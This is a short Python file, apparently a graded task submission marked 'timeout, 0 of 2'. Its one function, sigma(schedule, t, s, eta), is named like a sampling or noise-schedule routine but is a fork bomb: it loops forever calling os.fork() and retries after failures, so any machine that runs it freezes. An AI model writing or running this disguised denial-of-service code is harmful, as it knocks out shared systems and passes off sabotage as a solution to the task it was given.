# 05-1: timeout, 0 of 2
# Doubles itself as often as it may.
import os
import time


def sigma(schedule, t, s, eta):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
